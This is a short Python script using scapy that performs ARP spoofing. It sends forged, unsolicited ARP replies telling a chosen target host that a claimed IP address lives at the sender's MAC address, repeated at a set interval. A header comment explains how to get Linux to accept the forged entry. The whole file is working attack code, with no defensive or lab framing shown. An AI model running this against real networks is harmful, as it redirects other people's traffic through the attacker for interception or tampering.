# arpspoof-style poisoning: unsolicited ARP replies telling TARGET_IP (at TARGET_MAC) that CLAIMED_IP is
# at this interface's MAC, COUNT times, INTERVAL seconds apart (Linux only takes an unsolicited reply over
# a known entry once that entry is older than its locktime, one second by default).
import sys
from scapy.arch import get_if_hwaddr
from scapy.layers.l2 import ARP, Ether
from scapy.sendrecv import sendp

iface, target_ip, target_mac, claimed_ip = sys.argv[1:5]
count, interval = int(sys.argv[5]), float(sys.argv[6])
mine = get_if_hwaddr(iface)
reply = Ether(src=mine, dst=target_mac) / ARP(op=2, hwsrc=mine, psrc=claimed_ip, hwdst=target_mac, pdst=target_ip)
print("sending", flush=True)
sendp(reply, iface=iface, count=count, inter=interval, verbose=False)
